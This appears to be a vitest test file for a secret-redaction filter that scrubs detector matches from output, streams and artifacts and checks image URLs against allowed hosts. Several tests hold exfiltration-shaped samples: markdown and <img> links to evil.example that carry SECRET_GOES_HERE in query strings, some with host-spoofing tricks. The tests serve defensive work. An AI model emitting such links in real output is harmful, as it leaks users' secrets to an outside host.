import { assert, constantFrom, array, property } from 'fast-check';
import { RE2JS } from 're2js';
import { describe, expect, test, vi } from 'vitest';
import { createBoundary } from '../../src/boundary/boundary.ts';
import type { BoundaryProfile, CustomDetector } from '../../src/model/finding.ts';
import { bytes, output, profile, redactionKey } from './support/filter.ts';

const ticket: CustomDetector = {
  id: 'acme-ticket',
  title: 'Ticket of the ACME warehouse',
  keywords: ['acme_', 'ACME-'],
  pattern: '\\b(?:acme_|ACME-)[a-z0-9]{8}\\b',
  examples: { hit: ['acme_0a1b2c3d', 'x ACME-0a1b2c3d.'], miss: ['acme_short', 'acme_0a1b2c3d4'] },
};
const custom = (
  detectors: readonly CustomDetector[],
  more: Partial<BoundaryProfile> = {},
): BoundaryProfile => ({
  ...profile('outbound', Object.fromEntries(detectors.map(({ id }) => [id, 'redact'] as const))),
  detectors,
  ...more,
});
const build = (detectors: readonly CustomDetector[] = []) =>
  createBoundary({ redactionKey, knownSecrets: [], detectors });
const printed = (text: string, profiles: readonly BoundaryProfile[], detectors = [ticket]) =>
  build(detectors).filterOutput(output({ stdout: bytes(text) }), profiles);

const token = ['acme_', '0a1b2c3d'].join('');

test('it is taken out of prints, results, keys, names and text artifacts, and reported without its text', () => {
  const filtered = build([ticket]).filterOutput(
    output({
      result: { [token]: [`see ${token}`] },
      stdout: bytes(`${token}\n${token} ${token}`),
      error: { name: 'Error', message: token },
      artifacts: [{ name: `${token}.txt`, mediaType: 'text/plain', data: bytes(`a ${token}`) }],
    }),
    [custom([ticket])],
  );

  expect(JSON.stringify(filtered)).not.toContain(token);
  expect(new TextDecoder().decode(filtered.artifacts[0]?.data)).toMatch(/^a \[REDACTED:acme-ticket:\w{4}\]$/);
  expect(filtered.report.findings).toContainEqual(
    expect.objectContaining({ detector: 'acme-ticket', where: 'stdout@0', count: 3 }),
  );
});

test('it is found in encodings, and withholds a binary artifact', () => {
  const encoded = Buffer.from(`ticket ${token} `).toString('base64');
  expect(printed(encoded, [custom([ticket])]).stdout).toContain('[REDACTED:acme-ticket');
  const data = Uint8Array.from([0, 255, ...bytes(` ${token} `), 0]);
  const artifact = { name: 'a.bin', mediaType: 'application/octet-stream', data };
  expect(build().filterOutput(output({ artifacts: [artifact] }), [custom([ticket])]).artifacts).toEqual([]);
});

test('a profile that does not have it does nothing about it; the record is without it all the same', () => {
  const other = profile('outbound', {});
  expect(printed(token, [other])).toMatchObject({ stdout: token, report: { verdict: 'clean' } });
  expect(printed(token, [other, custom([ticket])]).stdout).toContain('[REDACTED');
  expect(build([ticket]).redactText(token)).toContain('[REDACTED');
});

test('a call under way keeps the detectors of its own revision, which this filter does not know', () => {
  expect(build().filterOutput(output({ result: token }), [custom([ticket])]).result).toContain('[REDACTED');
});

test('in arguments it flags, or blocks where the profile says so, and is not in the copy for the record', () => {
  const flag = { ...custom([ticket]), inbound: { detectors: { 'acme-ticket': 'flag' } } } as const;
  const checked = build().checkArguments({ text: token }, [flag]);
  expect(checked).toMatchObject({ blocked: false, report: { verdict: 'flagged' } });
  expect(JSON.stringify(checked.forRecord)).not.toContain(token);
  const block = { ...flag, inbound: { detectors: { 'acme-ticket': 'block' } } } as const;
  expect(build().checkArguments({ text: token }, [block]).blocked).toBe(true);
});

test('a group named secret narrows it to a part', () => {
  const assigned = {
    ...ticket,
    keywords: ['acme_pin='],
    pattern: 'acme_pin=(?<secret>[0-9]{6})',
    examples: { hit: ['acme_pin=123456'], miss: ['acme_pin=none'] },
  };
  expect(printed('acme_pin=654321;', [custom([assigned])], [assigned]).stdout).toMatch(
    /^acme_pin=\[REDACTED:acme-ticket:\w{4}\];$/,
  );
});

test.each([
  ['a pattern that looks around', { pattern: '(?<=acme_)[a-z]+' }],
  ['a hit that it does not find', { examples: { hit: ['acme_'], miss: ['a'] } }],
  ['a miss that it finds', { examples: { hit: [token], miss: [token] } }],
])('%s is refused', (_, change) => {
  expect(() => build([{ ...ticket, ...change }])).toThrow(TypeError);
});

test('every way to cut a stream gives what the whole gives', () => {
  const pieces = constantFrom(token, 'acme_', '0a1b', 'ACME-', ' ', '\n', 'x', '-', 'acme_0a1b2c3d4');
  const profiles = [custom([ticket], { stream: 'live' })];
  const boundary = build([ticket]);
  assert(
    property(array(pieces, { maxLength: 14 }), (parts) => {
      const stream = boundary.filterStream('stdout', profiles);
      const streamed = parts.map((part) => stream.push(bytes(part))).join('') + stream.end().text;
      const whole = boundary.filterOutput(output({ stdout: bytes(parts.join('')) }), profiles).stdout;
      expect(streamed).toBe(whole);
      expect(boundary.filterOutput(output({ stdout: bytes(whole) }), profiles).stdout).toBe(whole);
    }),
  );
});

test('reads a line full of its keywords once: the work for twice the text is twice the work', () => {
  const greedy = {
    ...ticket,
    id: 'greedy',
    keywords: ['kw '],
    pattern: 'kw [^!]{1,900}!',
    examples: { hit: ['kw a!'], miss: ['kw'] },
  };
  const searched = (units: number) => {
    const matchers = vi.spyOn(RE2JS.prototype, 'matcher');
    printed('kw '.repeat(units / 3), [custom([greedy])], [greedy]);
    const read = matchers.mock.calls.reduce(
      (sum, [input]) => sum + (typeof input === 'string' ? input.length : 0),
      0,
    );
    matchers.mockRestore();
    return read;
  };
  const [once, twice, fourTimes] = [searched(30_000), searched(60_000), searched(120_000)];
  expect(twice / once).toBeLessThan(2.2);
  expect(fourTimes / once).toBeLessThan(4.4);
  expect(once).toBeGreaterThan(0);
  expect(once).toBeLessThan(3 * 30_000);
});

describe('a pattern that reads far for each short match', () => {
  const short = {
    ...ticket,
    id: 'short',
    keywords: ['kw'],
    pattern: 'kw(?:[^!]{1,900}!)?',
    examples: { hit: ['kw'], miss: ['k'] },
  };

  test.each([4096, 8192, 16_384])('is stopped, and the text withheld: %d units', (units) => {
    let read = 0;
    const matchers = vi.spyOn(RE2JS.prototype, 'matcher');
    const { stdout, report } = printed('kw'.repeat(units / 2), [custom([short])], [short]);
    for (const [input] of matchers.mock.calls) read += typeof input === 'string' ? input.length : Number.NaN;
    matchers.mockRestore();

    expect(stdout).toBe('');
    expect(report).toMatchObject({ verdict: 'blocked' });
    expect(report.findings.map(({ detector }) => detector)).toContain('input-too-costly');
    expect(read).toBeLessThan(1.01 * (512 * units + 262_144));
  });

  test('goes on where matches are as long as tokens are', () => {
    const line = `${'x'.repeat(8)} kw-0a1b `.repeat(2000);
    expect(printed(line, [custom([short])], [short]).report.verdict).toBe('redacted');
  });
});

const allow = (hosts: readonly string[], texts: BoundaryProfile['allow']['texts'] = []) => ({
  ...profile('outbound', {}),
  allow: { hosts, texts },
});

test.each([
  ['https://img.example.com/p.png?q=SECRET_GOES_HERE', true],
  ['https://a.cdn.example.com/p.png?q=SECRET_GOES_HERE', true],
  ['https://cdn.example.com/p.png?q=SECRET_GOES_HERE', false],
  ['https://img.example.com.evil.example/p.png?q=SECRET_GOES_HERE', false],
  ['https://img.example.com@evil.example/p.png?q=SECRET_GOES_HERE', false],
  ['https://evil.example/img.example.com/p.png?q=SECRET_GOES_HERE', false],
  ['https://evil.example\\@img.example.com/?q=SECRET_GOES_HERE', false],
  ['//img.example.com/p.png?q=SECRET_GOES_HERE', true],
])('a picture from %s is let through where its host is allowed: %s', (url, isAllowed) => {
  const profiles = [allow(['img.example.com', '*.cdn.example.com'])];
  const text = `![x](${url})`;
  expect(printed(text, profiles).stdout === text).toBe(isAllowed);
  expect(printed(text, [...profiles, allow([])]).stdout).not.toBe(text);
});

test.each([
  'srcset="https://img.example.com/x?d=AAAAAAAA 1x, https://evil.example/c?d=SECRET_GOES_HERE 2x"',
  'src="https://img.example.com/x?d=AAAAAAAA" lowsrc="https://evil.example/c?d=SECRET_GOES_HERE"',
])('one allowed host does not speak for the others of its tag: %s', (attributes) => {
  const text = `<img ${attributes}>`;
  expect(printed(text, [allow(['img.example.com'])]).stdout).not.toContain('https://evil.example/c?d=SECRET');
});

test('an exact text is harmless for one detector, and nothing around it', () => {
  const example = ['AKIA', 'IOSFODNN7', 'QWERTYU'].join('');
  const other = ['AKIA', 'IOSFODNN7', 'QWERTYV'].join('');
  const profiles = [allow([], [{ detector: 'aws-access-key-id', text: example }])];
  expect(printed(`${example} ${other}`, profiles).stdout).toMatch(
    new RegExp(`^${example} \\[REDACTED:aws-access-key-id:`),
  );
  expect(printed(example, [allow([], [{ detector: 'jwt', text: example }])]).stdout).not.toBe(example);
});
